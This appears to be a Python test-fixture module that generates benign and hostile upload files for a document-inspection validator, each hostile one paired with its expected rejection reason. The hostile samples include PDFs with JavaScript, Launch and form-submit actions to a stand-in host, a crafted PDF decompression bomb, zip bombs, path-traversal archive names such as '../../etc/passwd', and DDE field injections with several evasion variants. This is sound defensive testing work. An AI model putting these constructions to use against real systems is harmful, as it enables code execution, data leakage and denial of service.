"""Files to upload, made here: sound ones of every kind, and hostile ones with the reason they must be refused for."""

from __future__ import annotations

import random
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from io import BytesIO

import pikepdf
from PIL import Image

from evidence.inspection.verdicts import DOCX, XLSX
from tests.story import PDF, png

PNG = png()
CSV = b"site,patients\nLeeds,12\nYork,30\n"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PARTS = {DOCX: "word/document.xml", XLSX: "xl/workbook.xml"}


def jpeg(size: int = 8) -> bytes:
    written = BytesIO()
    Image.new("RGB", (size, size), (1, 2, 3)).save(written, "JPEG")
    return written.getvalue()


JPEG = jpeg()


def archive(parts: dict[str, bytes | str], **options: object) -> bytes:
    """A ZIP of these parts."""
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content, **options)
    return written.getvalue()


def office(kind: str = DOCX, more: dict[str, bytes | str] | None = None, *, listed: str = "", main: str = "") -> bytes:
    """A small Word or Excel file, with more parts, or with another main content type."""
    part = _PARTS[kind]
    types = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="{main or kind + ".main+xml"}"/>{listed}</Types>'
    )
    rels = relation("officeDocument", part)
    body = '<d:doc xmlns:d="urn:d"><d:p>An invented report.</d:p></d:doc>'
    return archive({"[Content_Types].xml": types, "_rels/.rels": rels, part: body} | (more or {}))


def relation(kind: str, target: str, mode: str = "Internal") -> str:
    """A relationships part with one relation."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    )


def pdf_with(change) -> bytes:
    """A sound PDF with one thing changed in it."""
    written = BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        options = change(pdf) or {}
        pdf.save(written, **options)
    return written.getvalue()


def _action(**entries):
    return lambda pdf: pdf.Root.__setitem__("/OpenAction", pikepdf.Dictionary(**entries))


def _embedded(pdf):
    pdf.attachments["evil.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ")


def _deep(pdf):
    inner = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    for _ in range(5):
        inner = pikepdf.Dictionary(Next=pikepdf.Array([inner]))
    pdf.pages[0].obj["/AA"] = inner


def _event(**entries):
    """An action at an event of the first page."""
    return lambda pdf: pdf.pages[0].obj.__setitem__("/AA", pikepdf.Dictionary(O=pikepdf.Dictionary(**entries)))


def _picture_elsewhere(pdf):
    pdf.pages[0].obj["/Metadata"] = pdf.make_stream(b"", F="\\\\a.example\\share\\x")


SPLIT = "<w:fldChar w:fldCharType='begin'/><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"
NESTED = (
    "<w:fldChar w:fldCharType='begin'/><w:fldChar w:fldCharType='begin'/><w:instrText>REF a</w:instrText>"
    "<w:fldChar w:fldCharType='separate'/><w:t>DDEAUTO</w:t><w:fldChar w:fldCharType='end'/>"
)
CONTENTS = (
    "<w:fldChar w:fldCharType='begin'/><w:instrText> TO</w:instrText><w:instrText>C \\o &quot;1-3&quot; </w:instrText>"
    "<w:fldChar w:fldCharType='separate'/><w:fldChar w:fldCharType='begin'/><w:instrText>PAGEREF _Toc1</w:instrText>"
    "<w:fldChar w:fldCharType='separate'/><w:t>2</w:t><w:fldChar w:fldCharType='end'/>"
    "<w:fldChar w:fldCharType='end'/><w:fldSimple w:instr=' =SUM(ABOVE) '/><w:instrText>ADDIN EN.CITE</w:instrText>"
)


def _field(inside: str, name: str = "word/f.xml") -> bytes:
    return office(more={name: f"<w:a xmlns:w='w'>{inside}</w:a>"})


def bomb(megabytes: int) -> bytes:
    """A Word file whose one part swells to this size."""
    return office(more={"word/big.xml": b"<a>" + b" " * (megabytes * 1024 * 1024) + b"</a>"})


def _chunk(name: bytes, content: bytes) -> bytes:
    body = name + content
    return len(content).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it has this size and brings a few bytes of it."""
    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(bytes(99)))
        + _chunk(b"IEND", b"")
    )


def pdf_bomb() -> bytes:
    """A PDF whose table of objects is said to be a stream that swells to two gigabytes, four times over."""
    # One flushed block stands for a megabyte of zeros; repeated, it is a stream of gigabytes that took no time to make.
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1024 * 1024)) + packer.flush(zlib.Z_FULL_FLUSH)
    size = 2048 * 1024 * 1024
    once = head + block * 2048 + b"\x03\x00" + ((size % 65521) << 16 | 1).to_bytes(4, "big")
    filters = b"/Filter[/FlateDecode/FlateDecode]"
    stream = b"1 0 obj<</Type/XRef/Size 9/W[1 2 1]/Root 2 0 R" + filters + b"/Length %d>>stream\n%s\nendstream\n"
    twice = zlib.compress(once, 9)
    return b"%PDF-1.7\n" + stream % (len(twice), twice) + b"endobj\nstartxref\n9\n%%EOF\n"


def _many_parts(megabytes: int) -> bytes:
    return office(more={f"a{n}.bin": bytes(1024 * 1024) for n in range(megabytes)})


def _overlapping() -> bytes:
    """Two names in the directory for the same bytes."""
    whole = bytearray(office(more={"a.xml": "<a/>", "b.xml": "<a/>"}))
    first = whole.index(b"PK\x01\x02")
    names = [whole.index(name, first) for name in (b"a.xml", b"b.xml")]
    whole[names[1] - 4 : names[1]] = whole[names[0] - 4 : names[0]]
    return bytes(whole)


def _flagged() -> bytes:
    whole = bytearray(office())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        whole[whole.index(mark) + offset] |= 1
    return bytes(whole)


HTML = b"<!DOCTYPE html><script>alert(1)</script>,a\n1,2\n"
VBA = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"

SOUND: dict[str, tuple[bytes, str]] = {
    "pdf": (PDF, "application/pdf"),
    "pdf with spaces after its end": (PDF + b" \r\n", "application/pdf"),
    "pdf that opens at a page": (pdf_with(_action(S=pikepdf.Name.GoTo, D="a")), "application/pdf"),
    "docx": (office(), DOCX),
    "docx with a link": (
        office(more={"word/_rels/x.rels": relation("hyperlink", "https://a.example", "External")}),
        DOCX,
    ),
    "docx with a workbook of a chart": (office(more={"word/embeddings/figures.xlsx": office(XLSX)}), DOCX),
    "docx with contents and numbers of pages": (_field(CONTENTS), DOCX),
    "docx with a part of no content": (office(more={"word/media/none.dat": b"", "word/media/": b""}), DOCX),
    "xlsx": (office(XLSX), XLSX),
    "png": (PNG, "image/png"),
    "jpeg": (JPEG, "image/jpeg"),
    "csv": (CSV, "text/csv"),
    "csv with a mark of its encoding": (b"\xef\xbb\xbf" + CSV, "text/csv"),
    "csv of windows": ("site;cost\nLeeds;£12\n".encode("cp1252"), "text/csv"),
    "csv with a quoted line end": (b'a,b\r\n"one\r\ntwo",2\r\n', "text/csv"),
}


class _MadeWhenAsked(Mapping[str, tuple[bytes, str]]):
    """Files by name with the reason; those that are work to make are made for the test that asks."""

    def __init__(self, files: dict[str, tuple[bytes | Callable[[], bytes], str]]) -> None:
        self.files = files

    def __getitem__(self, name: str) -> tuple[bytes, str]:
        content, reason = self.files[name]
        return content() if callable(content) else content, reason

    def __iter__(self) -> Iterator[str]:
        return iter(self.files)

    def __len__(self) -> int:
        return len(self.files)


_HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
    "html": (HTML, "not a PDF"),
    "html before a pdf": (HTML + PDF, "not a PDF"),
    "program": (b"MZ" + bytes(100), "not a PDF"),
    "gif": (b"GIF89a" + bytes(100), "not a PDF"),
    "svg": (b"<svg a='1,2'/>\n,\n", "not a PDF"),
    "prose": (b"Plain words, and more.\nNothing in columns.\n", "not a PDF"),
    "csv with a nul": (CSV + b"a,\0\n", "not a PDF"),
    "csv in no encoding": (CSV + b"\x81\x8d,1\n", "not a PDF"),
    "csv with an open quote": (b'a,b\n"1,2\n', "quotation marks"),
    "csv with an endless field": (b"a,b\n" + b"x" * 500_000 + b",1\n", "not a PDF|quotation marks"),
    "space before a pdf": (b" " + PDF, "not a PDF"),
    "pdf without an end": (PDF[:-8], "end is missing"),
    "pdf cut short": (PDF[:200] + b"\n%%EOF", "damaged or incomplete"),
    "pdf without pages": (b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", "damaged"),
    "pdf and an archive": (PDF + archive({"a": b"a"}), "after its end"),
    "pdf and a script": (PDF + b"<script>alert(1)</script>", "after its end"),
    "pdf with a password": (pdf_with(lambda _: {"encryption": pikepdf.Encryption(owner="o", user="u")}), "password"),
    "pdf that is locked": (pdf_with(lambda _: {"encryption": pikepdf.Encryption(owner="o", user="")}), "protected"),
    "pdf with a script": (pdf_with(_action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")), "a script"),
    "pdf with a deep script": (pdf_with(_deep), "a script"),
    "pdf that starts a program": (pdf_with(_action(S=pikepdf.Name.Launch, F="calc.exe")), "starts a program"),
    "pdf that sends data": (pdf_with(_action(S=pikepdf.Name.SubmitForm, F="https://a.example")), "sends data"),
    "pdf that opens another file": (
        pdf_with(_action(S=pikepdf.Name.GoToR, F="\\\\a.example\\x.pdf")),
        "elsewhere|acts",
    ),
    "pdf that reads a thread elsewhere": (
        pdf_with(_event(S=pikepdf.Name.Thread, F="\\\\a.example\\x")),
        "elsewhere|acts",
    ),
    "pdf with content elsewhere": (pdf_with(_picture_elsewhere), "name of a file elsewhere"),
    "pdf that opens an address": (pdf_with(_action(S=pikepdf.Name.URI, URI="https://a.example")), "acts when"),
    "pdf page that opens an address": (pdf_with(_event(S=pikepdf.Name.URI, URI="https://a.example")), "acts when"),
    "pdf that opens an address next": (
        pdf_with(_action(S=pikepdf.Name.GoTo, D="a", Next=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://a"))),
        "acts when",
    ),
    "pdf with a file inside": (pdf_with(_embedded), "another file inside"),
    "pdf bomb": (pdf_bomb, "too much memory or time|damaged"),
    "png cut short": (PNG[:-20], "damaged or incomplete"),
    "png and an archive": (PNG + archive({"a": b"a"}), "after its end"),
    "png without content": (b"\x89PNG\r\n\x1a\n" + bytes(64), "damaged or incomplete"),
    "png bomb": (png_of(60_000, 60_000), "million pixels"),
    "png that is not whole": (png_of(100, 100), "damaged or incomplete"),
    "jpeg cut short": (JPEG[:-30], "damaged or incomplete"),
    "jpeg and html": (JPEG + HTML, "after its end"),
    "jpeg without content": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64), "damaged or incomplete"),
    "archive": (archive({"a.txt": b"a"}), "an archive"),
    "archive cut short": (office()[:-30], "damaged or incomplete"),
    "archive of nothing": (b"PK\x03\x04" + bytes(100), "damaged or incomplete"),
    "program before an archive": (b"PK  " + office(), "before its beginning"),
    "archive and more": (office() + b"<script>", "after its end"),
    "archive with a password": (_flagged(), "password"),
    "archive with overlapping parts": (_overlapping(), "overlap|damaged"),
    "archive with a part outside": (office(more={"../../etc/passwd": "a"}), "forbidden name"),
    "archive with an absolute part": (office(more={"/etc/passwd": "a"}), "forbidden name"),
    "archive with a drive": (office(more={"C:\\a": "a"}), "forbidden name"),
    "archive with too many parts": (office(more={f"a{n}": "" for n in range(2_001)}), "too many parts"),
    "zip bomb": (partial(bomb, 60), "expands"),
    "zip bomb in many parts": (partial(_many_parts, 201), "expands"),
    "presentation": (office(main="application/vnd.openxmlformats-officedocument.presentationml.x"), "not a Word"),
    "docx with macros": (office(main=MACRO_MAIN), "macros"),
    "docx with a macro part": (office(listed=VBA), "macros"),
    "docx with a hidden macro part": (office(more={"word/vbaProject.bin": b"x"}), "macros"),
    "docx with an object": (office(more={"word/embeddings/oleObject1.bin": b"x"}), "another file inside"),
    "docx in a docx in a docx": (
        office(more={"word/embeddings/a.docx": office(more={"word/embeddings/a.docx": office()})}),
        "another file inside",
    ),
    "docx with macros in its chart": (office(more={"word/embeddings/a.xlsx": office(XLSX, listed=VBA)}), "macros"),
    "docx with a template": (
        office(more={"word/_rels/x.rels": relation("attachedTemplate", "https://a.example/t.dotm", "External")}),
        "fetches something",
    ),
    "docx with a linked picture": (
        office(more={"word/_rels/x.rels": relation("image", "//a.example/p.png", "External")}),
        "fetches something",
    ),
    "docx with a script for a link": (
        office(more={"word/_rels/x.rels": relation("hyperlink", "javascript:alert(1)", "External")}),
        "fetches something",
    ),
    "docx that calls a program": (
        office(more={"word/f.xml": "<w:a xmlns:w='w'><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:a>"}),
        "fetches something",
    ),
    "docx that calls a program by another part": (_field("<w:instrText>DDE c</w:instrText>", "word/f.dat"), "“DDE”"),
    "docx that calls a program in UTF-16": (
        office(more={"word/f.dat": "<a><instrText>DDE c</instrText></a>".encode("utf-16")}),
        "“DDE”",
    ),
    "docx that calls a program in other letters": (_field("<w:instrText>&#68;DEAUTO c</w:instrText>"), "“DDEAUTO”"),
    "docx that calls a program in pieces": (_field(SPLIT), "“DDEAUTO”"),
    "docx that calls a program by a field's field": (_field(NESTED), "fetches something"),
    "docx that calls a program in short": (_field("<w:fldSimple w:instr='DDEAUTO c'/>"), "“DDEAUTO”"),
    "docx that fetches a picture": (
        _field('<w:instrText>INCLUDEPICTURE "https://a.example/p.png" \\d</w:instrText>'),
        "“INCLUDEPICTURE”",
    ),
    "docx with relations in capitals": (
        office(more={"word/_RELS/X.RELS": relation("attachedTemplate", "https://a.example/t.dotm", "External")}),
        "fetches something",
    ),
    "docx with a web page inside": (
        office(more={"word/_rels/x.rels": relation("aFChunk", "/word/page.htm"), "word/page.htm": "<html/>"}),
        "another file inside",
    ),
    "docx with entities": (
        office(more={"word/x.xml": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}),
        "definitions",
    ),
    "docx that is not well-formed": (office(more={"word/x.xml": "<a><b></a>"}), "damaged or incomplete"),
    "doc with a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "password, or in an old format"),
}
HOSTILE = _MadeWhenAsked(_HOSTILE)


def mutations(count: int, seed: int) -> list[tuple[str, bytes]]:
    """Sound files with bytes changed, cut, doubled or put together; the same for the same seed."""
    dice = random.Random(seed)
    found = []
    for number in range(count):
        name = dice.choice(sorted(SOUND))
        content = bytearray(SOUND[name][0])
        way = dice.choice(("flip", "cut", "double", "zero", "join"))
        place = dice.randrange(len(content))
        if way == "flip":
            for _ in range(dice.randint(1, 12)):
                content[dice.randrange(len(content))] = dice.randrange(256)
        elif way == "cut":
            del content[place:]
        elif way == "double":
            content[place:place] = content[: dice.randrange(len(content))]
        elif way == "zero":
            content[place : place + 40] = bytes(40)
        else:
            content += SOUND[dice.choice(sorted(SOUND))][0]
        found.append((f"{number} {way} {name}", bytes(content)))
    return found
